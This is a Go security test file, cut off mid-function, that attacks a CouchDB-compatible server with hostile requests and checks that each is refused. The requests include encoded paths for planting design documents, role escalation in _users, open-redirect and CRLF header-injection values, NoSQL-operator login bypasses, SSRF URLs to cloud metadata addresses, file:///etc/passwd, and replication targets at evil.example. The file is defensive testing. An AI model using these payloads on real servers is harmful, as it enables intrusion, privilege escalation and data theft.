package main

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/tododb/tododb/store/widetest"
)

// TestHostileUsers has users try what only others may do.
func TestHostileUsers(t *testing.T) {
	widetest.Only(t)
	besideOthers(t)
	s := besiege(t, confinement{Memory: 256 << 20}, "[couchdb]\nusers_db_security_editable = true\n")
	s.do(200, "PUT", "/_users/_security", `{"members":{},"admins":{}}`) // anybody may sign up
	s.do(201, "PUT", "/shared%2F_replicator", "")
	s.do(200, "PUT", "/shared%2F_replicator/_security", `{"members":{"names":["anna","dora"]},"admins":{}}`)
	if got := s.ask(dora, "PUT", "/shared%2F_replicator/job", `{"source":"http://dora:hidden@192.0.2.1/a","target":"http://192.0.2.1/b","continuous":true}`); got.status != 201 {
		t.Fatalf("dora's replication: %v %s", got, got.body)
	}
	s.do(201, "PUT", "/_replicator/backup", `{"source":"http://192.0.2.1/a","target":"http://x:hidden@192.0.2.1/b","continuous":true}`)
	for id, text := range map[string]string{"anna:1": "seen", "anna:2": "seen", "dora:1": "hidden", "zoe": "hidden"} {
		s.do(201, "PUT", "/open/"+id, fmt.Sprintf(`{"text":%q,"_attachments":{"a":{"data":%q}}}`, text, base64.StdEncoding.EncodeToString([]byte(text))))
	}
	app := s.ask(boss, "GET", "/victim/_design/app", nil)
	s.do(201, "PUT", "/victim/_design/app?rev="+strings.Trim(app.header.Get("ETag"), `"`), `{"views":{"n":{"map":"function(doc){emit(doc.n,1)}","reduce":"_sum"}},
		"updates":{"u":"function(doc,req){return [JSON.parse(req.body),'done']}"},"rewrites":[{"from":"*","to":"../../*","method":"*"}]}`)
	s.run(rightsAttacks)
}

var rightsAttacks = []attack{
	// Design documents, written by a user who is only a member.
	{name: "a design document by every way in", want: "refused everywhere", do: func(s *siege) string {
		pwn := `{"_id":"_design/pwn","validate_doc_update":"function(){throw({forbidden:\"mine now\"})}"}`
		replicated := strings.Replace(pwn, "{", `{"_revisions":{"start":1,"ids":["`+strings.Repeat("a", 32)+`"]},"_rev":"1-`+strings.Repeat("a", 32)+`",`, 1)
		rules := strings.Trim(s.ask(boss, "GET", "/victim/_design/rules", nil).header.Get("ETag"), `"`)
		tomb := fmt.Sprintf(`{"_id":"_design/rules","_deleted":true,"_revisions":{"start":2,"ids":["%032x",%q]}}`, 7, strings.TrimPrefix(rules, "1-"))
		for _, r := range []struct {
			method, path, body string
			more               []head
		}{
			{"PUT", "/victim/_design/pwn", pwn, nil},
			{"PUT", "/victim/_design%2Fpwn", pwn, nil},
			{"PUT", "/victim/%5Fdesign/pwn", pwn, nil},
			{"PUT", "/victim/%5fdesign%2fpwn", pwn, nil},
			{"PUT", "//victim//_design//pwn", pwn, nil},
			{"POST", "/victim", pwn, nil},
			{"POST", "/victim/_design/pwn", pwn, []head{"X-HTTP-Method-Override: PUT"}},
			{"POST", "/victim/_bulk_docs", `{"docs":[` + pwn + `]}`, nil},
			{"POST", "/victim/_bulk_docs", `{"atomic":true,"docs":[` + pwn + `]}`, nil},
			{"POST", "/victim/_bulk_docs", `{"new_edits":false,"docs":[` + replicated + `]}`, nil},
			{"POST", "/victim/_bulk_docs", `{"new_edits":false,"docs":[` + tomb + `]}`, nil},
			{"PUT", "/victim/_design/pwn?new_edits=false", replicated, nil},
			{"PUT", "/victim/_design/pwn?batch=ok", pwn, nil},
			{"PUT", "/victim/_design/pwn?new_edits=false", "--b\r\nContent-Type: application/json\r\n\r\n" + replicated + "\r\n--b--", []head{"Content-Type: multipart/related; boundary=b"}},
			{"DELETE", "/victim/_design/rules?rev=" + rules, "", nil},
			{"DELETE", "/victim/_design/rules/a?rev=" + rules, "", nil},
			{"PUT", "/victim/_design/rules/a?rev=" + rules, "x", []head{"Content-Type: text/plain"}},
			{"PUT", "/victim/_design/pwn/a", "x", []head{"Content-Type: text/plain"}},
			{"PUT", "/victim/_design%2Fpwn/a", "x", []head{"Content-Type: text/plain"}},
			{"COPY", "/victim/doc01", "", []head{"Destination: _design/pwn"}},
			{"COPY", "/victim/doc01", "", []head{"Destination: _design%2Fpwn"}},
			{"COPY", "/victim/doc01", "", []head{"Destination: %5Fdesign/pwn"}},
			{"COPY", "/victim/_local/mark", "", []head{"Destination: _design/pwn"}},
			{"COPY", "/victim/_design/app", "", []head{"Destination: _design/pwn"}},
			{"POST", "/victim/_design/app/_update/u", pwn, nil},
			{"PUT", "/victim/_design/app/_update/u/_design/pwn", pwn, nil},
			{"PUT", "/victim/_design/app/_update/u/_design%2Fpwn", `{}`, nil},
			{"PUT", "/victim/_design/app/_rewrite/_design/pwn", pwn, nil},
			{"POST", "/victim/_design/app/_rewrite/_bulk_docs", `{"docs":[` + pwn + `]}`, nil},
			{"POST", "/victim/_index", `{"index":{"fields":["a"]},"ddoc":"pwn"}`, nil},
			{"POST", "/victim/_synchronizations", `{"remote":"` + s.base + `/open"}`, nil},
			{"PUT", "/victim/_synchronizations/pwn", `{"remote":"` + s.base + `/open"}`, nil},
			{"POST", "/_replicate", `{"source":"http://dora:date%20cake@` + s.address() + `/doras","target":"victim","doc_ids":["_design/app"]}`, nil},
			{"POST", "/_replicate", `{"source":"http://dora:date%20cake@` + s.address() + `/doras","target":"victim","selector":{"_id":{"$gt":"_design/"},"n":{"$exists":false}}}`, nil},
		} {
			got := s.ask(anna, r.method, r.path, r.body, r.more...)
			for _, id := range []string{"pwn", "rules", "app"} {
				now := s.ask(boss, "GET", "/victim/_design/"+id+"?conflicts=true", nil)
				changed := id == "pwn" && now.status != 404
				changed = changed || id == "rules" && (now.status != 200 || strings.Trim(now.header.Get("ETag"), `"`) != rules)
				if changed || strings.Contains(string(now.body), "_conflicts") || got.status >= 500 && got.status != 501 {
					return fmt.Sprintf("%s %s %.80s: %v %s; %s is %v", r.method, r.path, r.body, got, got.body, id, now)
				}
			}
		}
		return "refused everywhere"
	}},
	{name: "a database that is not theirs, by every path", want: "refused everywhere", do: func(s *siege) string {
		for _, who := range []caller{nobody, anna, dora} {
			for _, method := range []string{"GET", "HEAD", "POST", "PUT", "DELETE", "COPY", "PATCH", "OPTIONS"} {
				for _, path := range []string{"", "/", "/doc01", "/new", "/doc01/a", "/doc01/b", "/_all_docs", "/_changes", "/_bulk_docs", "/_bulk_get", "/_revs_diff", "/_missing_revs", "/_find", "/_explain", "/_index", "/_security", "/_revs_limit", "/_compact", "/_purge", "/_purged_infos", "/_local/mark", "/_local_docs", "/_design/app", "/_design/app/a", "/_design/app/_info", "/_design/app/_view/n", "/_design/app/_show/x", "/_design/app/_list/x/n", "/_design/app/_update/x", "/_design/app/_rewrite/x", "/_design_docs", "/_view_cleanup", "/_ensure_full_commit", "/_synchronizations", "/_partition/x", "/_shards", "/_all_docs/queries", "/_index/_design/x/json/y", "/_changes?feed=eventsource&since=now&timeout=1"} {
					got := s.ask(who, method, "/private"+path, map[bool]string{true: "{}"}[method == "POST" || method == "PUT" || method == "PATCH"], "Destination: copy")
					if got.status < 300 && method != "OPTIONS" || got.status >= 500 && got.status != 501 || strings.Contains(string(got.body), "as it was") {
						return fmt.Sprintf("%s %s /private%s: %v %.200s", who.name, method, path, got, got.body)
					}
				}
			}
		}
		return "refused everywhere"
	}},
	{name: "the server, by who is no administrator", want: "refused everywhere", do: func(s *siege) string {
		for _, who := range []caller{nobody, anna, dora} {
			for _, r := range []string{"GET /_all_dbs", "GET /_dbs_info", "POST /_dbs_info", "GET /_active_tasks", "GET /_db_updates?feed=longpoll&timeout=1", "GET /_membership", "GET /_node/_local/_config", "GET /_node/_local/_config/admins", "PUT /_node/_local/_config/admins/evil", "DELETE /_node/_local/_config/admins/admin", "POST /_node/_local/_config/_reload", "GET /_node/_local/_stats", "GET /_node/_local/_system", "GET /_node/_local/_prometheus", "POST /_node/_local/_restart", "GET /_node/nonode@nohost/_config", "POST /_cluster_setup", "GET /_cluster_setup", "GET /_scheduler/jobs", "GET /_scheduler/docs", "GET /_scheduler/docs/_replicator/backup", "PUT /new", "PUT /_users", "DELETE /_users", "DELETE /open", "PUT /_replicator", "DELETE /_replicator", "DELETE /victim", "GET /_replicator/backup", "GET /_replicator/_all_docs?include_docs=true", "GET /_global_changes", "POST /_reload_query_servers", "GET /_config", "PUT /_config/admins/evil"} {
				method, path, _ := strings.Cut(r, " ")
				got := s.ask(who, method, path, map[bool]string{true: `"x"`}[method == "POST" || method == "PUT"])
				if got.status < 300 && !(method == "POST" && who.name != "" && path == "/_replicate") || got.status >= 500 && got.status != 501 {
					return fmt.Sprintf("%s %s: %v %.200s", who.name, r, got, got.body)
				}
			}
		}
		return "refused everywhere"
	}},

	// Users.
	{name: "a role that nobody gave", want: "refused everywhere", do: func(s *siege) string {
		now := s.ask(boss, "GET", "/_users/org.couchdb.user:anna", nil)
		var doc map[string]any
		if err := json.Unmarshal(now.body, &doc); err != nil {
			return err.Error()
		}
		rev, _ := doc["_rev"].(string)
		_, hash, _ := strings.Cut(rev, "-")
		with := func(change map[string]any) string {
			c := map[string]any{}
			for k, v := range doc {
				c[k] = v
			}
			for k, v := range change {
				if c[k] = v; v == nil {
					delete(c, k)
				}
			}
			text, _ := json.Marshal(c)
			return string(text)
		}
		more := []string{"cooks", "chefs"}
		me := "/_users/org.couchdb.user:anna"
		for _, r := range []struct {
			method, path, body string
			more               []head
		}{
			{"PUT", me, with(map[string]any{"roles": more}), nil},
			{"PUT", me, with(map[string]any{"roles": []string{"_admin"}}), nil},
			{"PUT", me, with(map[string]any{"roles": nil}), nil},
			{"PUT", me, with(map[string]any{"name": "admin"}), nil},
			{"PUT", me, with(map[string]any{"iterations": 9_999_999}), nil},
			{"PUT", me, with(map[string]any{"type": "robot", "roles": more}), nil},
			{"PUT", me + "?new_edits=false", with(map[string]any{"roles": more, "_rev": "9-" + strings.Repeat("f", 32)}), nil},
			{"POST", "/_users/_bulk_docs", `{"new_edits":false,"docs":[` + with(map[string]any{"roles": more, "_rev": nil, "_revisions": map[string]any{"start": 5, "ids": []string{"a", "b", "c", "d", hash}}}) + `]}`, nil},
			{"POST", "/_users/_bulk_docs", `{"new_edits":false,"docs":[` + with(map[string]any{"roles": more, "_rev": "1-" + strings.Repeat("f", 32)}) + `,{"_id":"org.couchdb.user:anna","_deleted":true,"_revisions":{"start":9,"ids":["e"]}}]}`, nil},
			{"POST", "/_users/_bulk_docs", `{"docs":[` + with(map[string]any{"roles": more}) + `]}`, nil},
			{"PUT", "/_users/org.couchdb.user:evil", `{"type":"user","name":"evil","roles":["_admin"],"password":"x"}`, nil},
			{"PUT", "/_users/org.couchdb.user:evil", `{"type":"user","name":"evil","roles":["cooks"],"password":"x"}`, nil},
			{"PUT", "/_users/org.couchdb.user:evil", `{"type":"user","name":"admin","roles":[],"password":"x"}`, nil},
			{"PUT", "/_users/org.couchdb.user:evil", `{"type":"user","name":"evil","roles":[],"password_scheme":"pbkdf2","iterations":10000000,"derived_key":"aa","salt":"bb"}`, nil},
			{"PUT", "/_users/org.couchdb.user:dora", `{"type":"user","name":"dora","roles":[],"password":"x"}`, nil},
			{"PUT", "/_users/_design/evil", `{"validate_doc_update":"function(){}"}`, nil},
			{"COPY", me, "", []head{"Destination: org.couchdb.user:evil"}},
			{"PUT", "/_users/_security", `{"admins":{"names":["anna"]}}`, nil},
			{"PUT", "/_users/_local/evil", `{}`, nil},
			{"POST", "/_users/_purge", `{"org.couchdb.user:anna":["` + rev + `"]}`, nil},
			{"PUT", "/_users/_revs_limit", "1", nil},
			{"POST", "/_replicate", `{"source":"open","target":"_users"}`, nil},
		} {
			got := s.ask(anna, r.method, r.path, r.body, r.more...)
			then := s.ask(boss, "GET", "/_users/org.couchdb.user:anna?conflicts=true", nil)
			evil := s.ask(boss, "GET", "/_users/org.couchdb.user:evil", nil)
			session := s.ask(anna, "GET", "/_session", nil)
			if got.status >= 500 || strings.Contains(string(then.body), "_conflicts") || !strings.Contains(string(session.body), `"roles":["cooks"]`) || evil.status != 404 {
				return fmt.Sprintf("%s %s %.300s: %v %s; then %s %s %v", r.method, r.path, r.body, got, got.body, then.body, session.body, evil)
			}
			if then.status != 200 || !strings.Contains(string(then.body), rev) {
				return fmt.Sprintf("%s %s %.300s: %v; then %s", r.method, r.path, r.body, got, then.body)
			}
		}
		return "refused everywhere"
	}},
	{name: "what others keep in _users", want: "nothing seen", do: func(s *siege) string {
		return s.sees([]caller{nobody, anna}, "derived_key", "_users", "org.couchdb.user:dora", "salt")
	}},
	{name: "a token after its account", want: "401 unauthorized", do: func(s *siege) string {
		tess := caller{"tess", "tea"}
		put := func(rev, password string) string {
			got := s.ask(boss, "PUT", "/_users/org.couchdb.user:tess"+rev, fmt.Sprintf(`{"type":"user","name":"tess","roles":[],"password":%q}`, password))
			return "?rev=" + strings.Trim(got.header.Get("ETag"), `"`)
		}
		issue := func() string {
			var issued struct{ Token string }
			json.Unmarshal(s.ask(tess, "POST", "/_session/tokens", `{"databases":["open"],"access":"read","device":"phone"}`).body, &issued)
			return issued.Token
		}
		rev := put("", "tea")
		first := issue()
		if got := s.ask(nobody, "GET", "/open/_all_docs", nil, head("Authorization: Bearer "+first)).String(); got != "200" {
			return "the token at first: " + got
		}
		rev = put(rev, "two")
		if got := s.ask(nobody, "GET", "/open/_all_docs", nil, head("Authorization: Bearer "+first)).String(); got != "401 unauthorized" {
			s.ask(boss, "DELETE", "/_users/org.couchdb.user:tess"+rev, nil)
			return "after another password: " + got
		}
		tess.password = "two"
		second := issue()
		s.ask(boss, "DELETE", "/_users/org.couchdb.user:tess"+rev, nil)
		got := s.ask(nobody, "GET", "/open/_all_docs", nil, head("Authorization: Bearer "+second)).String()
		rev = put("", "three")
		again := s.ask(nobody, "GET", "/open/_all_docs", nil, head("Authorization: Bearer "+second)).String()
		s.ask(boss, "DELETE", "/_users/org.couchdb.user:tess"+rev, nil)
		if again != got {
			return "after the next of that name: " + again
		}
		return got
	}},
	{name: "names that cannot log in", want: "400 .+", do: func(s *siege) string {
		return s.ask(boss, "PUT", "/_node/_local/_config/admins/co%3Alon", `"x"`).String()
	}},
	{name: "logins with what is no name", want: "4.. .+", do: func(s *siege) string {
		got := ""
		for _, body := range []string{`{"name":{"$gt":""},"password":{"$gt":""}}`, `{"name":["admin"],"password":["secret"]}`, `{"name":"admin","password":null}`, `{"name":null,"password":null}`, `{"name":true}`, `[]`, `"admin"`, `{"name":"admin","password":"x","name":"anna"}`} {
			if got = s.ask(nobody, "POST", "/_session", body).String(); !strings.HasPrefix(got, "4") {
				return body + ": " + got
			}
		}
		return got
	}},
	{name: "a login that leads elsewhere", want: "nothing odd", do: func(s *siege) string {
		for _, next := range []string{"http://evil.example/", "//evil.example/", "/%5Cevil.example", "https:evil.example", "\\\\evil.example", "/\tevil.example", "javascript:alert(1)", "%0d%0aX-Evil: 1"} {
			got := s.ask(nobody, "POST", "/_session?next="+strings.ReplaceAll(next, " ", "%20"), fmt.Sprintf(`{"name":%q,"password":%q}`, anna.name, anna.password))
			to := got.header.Get("Location")
			if got.header.Get("X-Evil") != "" || to != "" && !strings.HasPrefix(to, s.base+"/") && (!strings.HasPrefix(to, "/") || strings.HasPrefix(to, "//") || strings.HasPrefix(to, `/\`)) {
				return next + ": " + to
			}
		}
		return "nothing odd"
	}},

	// Replications.
	{name: "credentials of others' replications", want: "nothing seen", do: func(s *siege) string {
		return s.sees([]caller{anna}, "hidden", "shared%2F_replicator", "job", "hidden")
	}},
	{name: "others' replications", want: "refused everywhere", do: func(s *siege) string {
		now := s.ask(boss, "GET", "/shared%2F_replicator/job", nil)
		rev := strings.Trim(now.header.Get("ETag"), `"`)
		for _, r := range []struct{ method, path, body string }{
			{"PUT", "/shared%2F_replicator/job?rev=" + rev, `{"source":"http://192.0.2.1/a","target":"http://evil.example/b","owner":"dora"}`},
			{"DELETE", "/shared%2F_replicator/job?rev=" + rev, ""},
			{"POST", "/shared%2F_replicator/_bulk_docs", `{"new_edits":false,"docs":[{"_id":"job","_rev":"9-a","source":"http://192.0.2.1/a","target":"http://evil.example/b","owner":"anna"}]}`},
			{"POST", "/shared%2F_replicator/_bulk_docs", `{"docs":[{"_id":"job","_rev":"` + rev + `","_deleted":true}]}`},
			{"PUT", "/shared%2F_replicator/job/att?rev=" + rev, "x"},
			{"PUT", "/shared%2F_replicator/_design/evil", `{"validate_doc_update":"function(){}"}`},
			{"POST", "/_replicate", `{"source":"http://dora:hidden@192.0.2.1/a","target":"http://192.0.2.1/b","cancel":true,"continuous":true}`},
			{"POST", "/_replicate", `{"replication_id":"x","cancel":true}`},
		} {
			got := s.ask(anna, r.method, r.path, r.body)
			then := s.ask(boss, "GET", "/shared%2F_replicator/job?conflicts=true", nil)
			if got.status >= 500 || strings.Contains(string(then.body), "_conflicts") || strings.Trim(then.header.Get("ETag"), `"`) != rev {
				return fmt.Sprintf("%s %s %.200s: %v %s; then %s", r.method, r.path, r.body, got, got.body, then.body)
			}
		}
		return "refused everywhere"
	}},
	{name: "a replication in another's name", want: "4.. .+", do: func(s *siege) string {
		got := s.ask(anna, "PUT", "/shared%2F_replicator/mine", `{"source":"http://192.0.2.1/a","target":"http://192.0.2.1/b","owner":"admin","user_ctx":{"name":"admin","roles":["_admin"]}}`)
		if got.status != 201 {
			return got.String()
		}
		then := s.ask(boss, "GET", "/shared%2F_replicator/mine", nil)
		s.ask(boss, "DELETE", "/shared%2F_replicator/mine?rev="+strings.Trim(then.header.Get("ETag"), `"`), nil)
		if !strings.Contains(string(then.body), `"owner":"anna"`) {
			return string(then.body)
		}
		return "403 forbidden"
	}},
	{name: "a replication into what is not theirs", want: "4.. .+", do: func(s *siege) string {
		got := ""
		for _, body := range []string{`{"source":"open","target":"private"}`, `{"source":"private","target":"open"}`, `{"source":"private","target":"open","filter":"app/odd"}`, `{"source":"private","target":"open","doc_ids":["doc01"]}`, `{"source":"open","target":"newer","create_target":true}`, `{"source":"_users","target":"open","selector":{"name":"dora"}}`, `{"source":{"url":"` + s.base + `/private"},"target":"open"}`, `{"source":"../private","target":"open"}`, `{"source":"/private","target":"open"}`, `{"source":"private?x=","target":"open"}`, `{"source":"private%00","target":"open"}`} {
			if got = s.ask(anna, "POST", "/_replicate", body).String(); got == "200" && !strings.Contains(body, "_users") || got == "cut" {
				return body + ": " + got
			}
		}
		if seen := s.ask(boss, "GET", "/open/_all_docs?include_docs=true", nil); strings.Contains(string(seen.body), "as it was") || strings.Contains(string(seen.body), `"name":"dora"`) {
			return string(seen.body)
		}
		if got := s.ask(boss, "GET", "/newer", nil); got.status != 404 {
			return "a database was made"
		}
		return "403 forbidden"
	}},
	{name: "the link-local network by the server", long: true, want: "refused everywhere", do: func(s *siege) string {
		redirect := httptest.NewServer(http.RedirectHandler("http://169.254.169.254/latest/", http.StatusTemporaryRedirect))
		defer redirect.Close()
		for _, to := range []string{"http://169.254.169.254/a", "http://[fe80::1]/a", "http://[::ffff:169.254.169.254]/a", "http://[::ffff:a9fe:a9fe]/a", "http://2852039166/a", "http://0xa9fea9fe/a", "http://0251.0376.0251.0376/a", "http://169.254.169.254.:80/a", "http://x@169.254.169.254/a", redirect.URL + "/a", "http://[64:ff9b::a9fe:a9fe]/a"} {
			for _, body := range []string{fmt.Sprintf(`{"source":%q,"target":"open"}`, to), fmt.Sprintf(`{"source":"open","target":{"url":%q}}`, to)} {
				got := s.ask(anna, "POST", "/_replicate", body)
				if got.status < 400 || got.took > 30*time.Second || got.String() == "cut" {
					return fmt.Sprintf("%s: %v %s in %v", body, got, got.body, got.took)
				}
			}
		}
		return "refused everywhere"
	}},
	{name: "files and other schemes by the server", want: "refused everywhere", do: func(s *siege) string {
		for _, to := range []string{"file:///etc/passwd", "gopher://127.0.0.1:1/_x", "ftp://127.0.0.1/a", "http://", "http:///a", "unix:///tmp/x", "http://127.0.0.1:99999/a", "http://127.0.0.1:0/a", "http://a b/c", "HTTP://%00/a", "http://127.0.0.1\r\nX: y/a", "http+unix://x/a", "data:,x"} {
			got := s.ask(anna, "POST", "/_replicate", fmt.Sprintf(`{"source":%q,"target":"open"}`, to))
			if got.status < 400 || got.took > 20*time.Second || got.String() == "cut" || strings.Contains(string(got.body), "root:") {
				return fmt.Sprintf("%s: %v %s in %v", to, got, got.body, got.took)
			}
		}
		return "refused everywhere"
	}},
	{name: "a breaker that one user trips", want: "200", do: func(s *siege) string {
		source := fmt.Sprintf("http://dora:date%%20cake@%s/doras", s.address())
		var work sync.WaitGroup
		for i := range 12 {
			work.Go(func() {
				s.ask(anna, "POST", "/_replicate", fmt.Sprintf(`{"source":{"url":%q,"headers":{"X-Evil":"a\r\nb: %d"}},"target":"open","retries_per_request":1}`, source, i))
				s.ask(anna, "POST", "/_replicate", fmt.Sprintf(`{"source":"http://anna:wrong%d@%s/doras","target":"open","retries_per_request":1}`, i, s.address()))
			})
		}
		work.Wait()
		return s.ask(dora, "POST", "/_replicate", fmt.Sprintf(`{"source":%q,"target":"open","doc_ids":["none"]}`, source)).String()
	}},
	{name: "a peer that answers without end", want: "[45].. .+", do: func(s *siege) string {
		return s.fromPeer(func(w http.ResponseWriter, r *http.Request) {
			for block := []byte(strings.Repeat("[", 1<<16)); ; {
				if _, err := w.Write(block); err != nil {
					return
				}
			}
		})
	}},
	{name: "a peer whose rows are huge", long: true, want: "[45].. .+|200", do: func(s *siege) string {
		return s.fromPeer(func(w http.ResponseWriter, r *http.Request) {
			switch {
			case strings.HasSuffix(r.URL.Path, "/_changes"):
				fmt.Fprintf(w, `{"results":[{"seq":"1-a","id":%q,"changes":[{"rev":"1-a"}]}],"last_seq":"1-a","pending":0}`, strings.Repeat("a", 30<<20))
			case strings.Contains(r.URL.Path, "/_local/"):
				w.WriteHeader(404)
			default:
				fmt.Fprint(w, `{"db_name":"a","instance_start_time":"0","update_seq":"1-a"}`)
			}
		})
	}},
	{name: "a peer whose documents are huge", want: "[45].. .+|200", do: func(s *siege) string {
		return s.fromPeer(func(w http.ResponseWriter, r *http.Request) {
			switch {
			case strings.HasSuffix(r.URL.Path, "/_changes"):
				fmt.Fprint(w, `{"results":[{"seq":"1-a","id":"huge","changes":[{"rev":"1-a"}]}],"last_seq":"1-a","pending":0}`)
			case strings.HasSuffix(r.URL.Path, "/_bulk_get"), strings.HasSuffix(r.URL.Path, "/huge"):
				fmt.Fprint(w, `{"results":[{"id":"huge","docs":[{"ok":{"_id":"huge","_rev":"1-a","a":"`)
				for block := []byte(strings.Repeat("a", 1<<16)); ; {
					if _, err := w.Write(block); err != nil {
						return
					}
				}
			case strings.Contains(r.URL.Path, "/_local/"):
				w.WriteHeader(404)
			default:
				fmt.Fprint(w, `{"db_name":"a","instance_start_time":"0","update_seq":"1-a"}`)
			}
		})
	}},

	// Devices.
	{name: "what a device may not see", want: "nothing seen", do: func(s *siege) string {
		for _, r := range []string{"GET /open/dora:1", "GET /open/zoe", "GET /open/dora:1/a", "GET /open/_all_docs?include_docs=true&attachments=true", `GET /open/_all_docs?key="zoe"&include_docs=true`, `POST /open/_all_docs?include_docs=true {"keys":["zoe","dora:1"]}`, `POST /open/_all_docs/queries {"queries":[{"keys":["zoe"],"include_docs":true}]}`, "GET /open/_changes?include_docs=true&attachments=true", `POST /open/_changes?filter=_doc_ids&include_docs=true {"doc_ids":["zoe"]}`, `POST /open/_changes?filter=_selector&include_docs=true {"selector":{}}`, `POST /open/_bulk_get?attachments=true {"docs":[{"id":"zoe"},{"id":"dora:1"}]}`, "GET /open/zoe?open_revs=all&attachments=true", `POST /open/_find {"selector":{}}`, `POST /open/_find {"selector":{"text":"hidden"}}`, `POST /open/_explain {"selector":{}}`, "COPY /open/zoe anna:stolen", "COPY /open/zoe anna%3Astolen", "GET /open/_local_docs", "GET /open/_design_docs?include_docs=true", "GET /open/_design/all/_view/v", "GET /open/anna:1/../zoe", "GET /open/anna:1%2F..%2Fzoe", "GET /victim/doc01", "GET /private/doc01", "GET /_users/org.couchdb.user:anna", "GET /_session/tokens", "GET /_all_dbs", `POST /_replicate {"source":"open","target":"doras"}`, `POST /open/_revs_diff {"zoe":["1-a"]}`, `POST /_session/tokens {"databases":["open"]}`, `POST /open/_purge {"zoe":["1-a"]}`, "GET /open/_changes?feed=continuous&include_docs=true&timeout=100", "GET /open/_changes?feed=eventsource&include_docs=true&timeout=100", "GET /open/_changes?style=all_docs&conflicts=true&include_docs=true", "GET /open/_changes?filter=_view&view=all/v&include_docs=true"} {
			method, rest, _ := strings.Cut(r, " ")
			path, body, _ := strings.Cut(rest, " ")
			more := []head{head("Authorization: Bearer " + s.device)}
			if method == "COPY" {
				more, body = append(more, head("Destination: "+body)), ""
			}
			got := s.ask(nobody, method, path, body, more...)
			text := string(got.body)
			if got.status >= 500 || strings.Contains(text, "hidden") || strings.Contains(text, "aGlkZGVu") || strings.Contains(text, "as it was") || strings.Contains(text, "derived") || strings.Contains(path, "/open/_revs_diff") && strings.Contains(text, "possible_ancestors") {
				return fmt.Sprintf("%s: %v %.300s", r, got, text)
			}
		}
		if got := s.ask(boss, "GET", "/open/anna:stolen", nil); got.status != 404 {
			return "a copy"
		}
		return "nothing seen"
	}},
	{name: "what a device may not write", want: "refused everywhere", do: func(s *siege) string {
		for _, r := range []string{"PUT /open/bob:1 {}", "PUT /open/bob:1?new_edits=false {\"_rev\":\"1-a\"}", `POST /open {"_id":"bob:1"}`, `POST /open {}`, `POST /open/_bulk_docs {"docs":[{"_id":"bob:1"}]}`, `POST /open/_bulk_docs {"docs":[{"_id":"zoe","_rev":"9-a","_deleted":true}],"new_edits":false}`, "PUT /open/_design/anna: {}", `PUT /open/_design/anna:x {}`, "COPY /open/anna:1 bob:1", "PUT /open/bob:1/a {}", "PUT /open/_security {}", "PUT /open/_revs_limit 1", "POST /open/_compact {}", "DELETE /open", "PUT /newdb", `PUT /victim/anna:1 {}`, `PUT /open/ANNA:1 {}`, `PUT /open/%61nna {}`, `PUT /open/%20anna:1 {}`} {
			method, rest, _ := strings.Cut(r, " ")
			path, body, _ := strings.Cut(rest, " ")
			more := []head{head("Authorization: Bearer " + s.device)}
			if method == "COPY" {
				more, body = append(more, head("Destination: "+body)), ""
			}
			got := s.ask(nobody, method, path, body, more...)
			if got.status >= 500 || got.status < 300 && !strings.Contains(string(got.body), "forbidden") && !strings.Contains(path, "/open/_bulk_docs") && !(path == "/open" && got.status == 201 && strings.Contains(string(got.body), `"anna:`)) {
				return fmt.Sprintf("%s: %v %.300s", r, got, got.body)
			}
		}
		for _, id := range []string{"bob:1", "_design/anna:", "_design/anna:x", "ANNA:1", "anna", "%20anna:1"} {
			if got := s.ask(boss, "GET", "/open/"+id, nil); got.status != 404 {
				return id + " is there"
			}
		}
		if got := s.ask(boss, "GET", "/open/zoe", nil); got.status != 200 || !strings.HasPrefix(got.header.Get("ETag"), `"1-`) {
			return "zoe has changed"
		}
		return "refused everywhere"
	}},
	{name: "a token for more than its owner has", want: "refused everywhere", do: func(s *siege) string {
		for _, body := range []string{`{"databases":["private"],"access":"read-write"}`, `{"databases":["_users"]}`, `{"databases":["_replicator"]}`, `{"databases":["shared/_replicator"]}`, `{"databases":["open"],"expires_in":1e300}`, `{"databases":["open"],"expires_in":-1}`, `{"databases":["open"],"expires_in":99999999999}`, `{"databases":["open"],"access":"admin"}`, `{"databases":["*"]}`, `{"databases":[]}`, `{"databases":["open"],"owner":"admin"}`, `{"databases":["open"],"name":"admin","roles":["_admin"]}`} {
			got := s.ask(anna, "POST", "/_session/tokens", body)
			var issued struct{ ID, Token string }
			if got.status >= 500 {
				return body + ": " + got.String()
			}
			if json.Unmarshal(got.body, &issued); issued.Token == "" {
				continue
			}
			for _, path := range []string{"/private/doc01", "/_users/org.couchdb.user:dora", "/_replicator/backup", "/_node/_local/_config", "/shared%2F_replicator/job"} {
				if seen := s.ask(nobody, "GET", path, nil, head("Authorization: Bearer "+issued.Token)); seen.status < 400 {
					return fmt.Sprintf("%s: %s: %v", body, path, seen)
				}
			}
			if session := s.ask(nobody, "GET", "/_session", nil, head("Authorization: Bearer "+issued.Token)); strings.Contains(string(session.body), "_admin") {
				return body + ": " + string(session.body)
			}
			s.ask(anna, "DELETE", "/_session/tokens/"+issued.ID, nil)
		}
		return "refused everywhere"
	}},

	// Functions, beyond their sandbox.
	{name: "headers and bodies of functions", want: "nothing odd", do: func(s *siege) string {
		for _, f := range []string{
			`return {headers:{"X-A\r\nX-Evil":"1"},body:"x"}`, `return {headers:{"X-A":"1\r\nX-Evil: 1"},body:"x"}`, `return {headers:{"Content-Length":"100000"},body:"x"}`, `return {headers:{"Transfer-Encoding":"chunked"},body:"x"}`, `return {code:99999,body:"x"}`, `return {code:-1,body:"x"}`, `return {code:"200 OK\r\nX-Evil: 1",body:"x"}`, `return {code:101,body:"x"}`, `return {code:100,body:"x"}`, `return {code:204,body:"x"}`, `return {headers:{"":"x"," ":"y","a b":"c"},body:"x"}`, `return {base64:"!!!"}`, `return {headers:{"Content-Type":"text/html\r\n\r\n<script>"},body:"x"}`, `return {body:{toString:function(){return "x"}}}`, `return [[[]]]`, `return 1/0`, `return {headers:{"Set-Cookie":"a\u0000b"},body:"x"}`, `return {headers:[1],json:function(){}}`,
		} {
			text, _ := json.Marshal(map[string]any{"shows": map[string]string{"s": "function(doc,req){" + f + "}"}})
			put := s.ask(dora, "PUT", "/doras/_design/shown", text)
			if put.status != 201 {
				return f + ": " + put.String()
			}
			got := s.rawText("GET /doras/_design/shown/_show/s HTTP/1.1\r\nHost: x\r\nAuthorization: Basic ZG9yYTpkYXRlIGNha2U=\r\nConnection: close\r\n\r\n", 10*time.Second)
			s.ask(dora, "DELETE", "/doras/_design/shown", nil, head("If-Match: "+strings.Trim(put.header.Get("ETag"), `"`)))
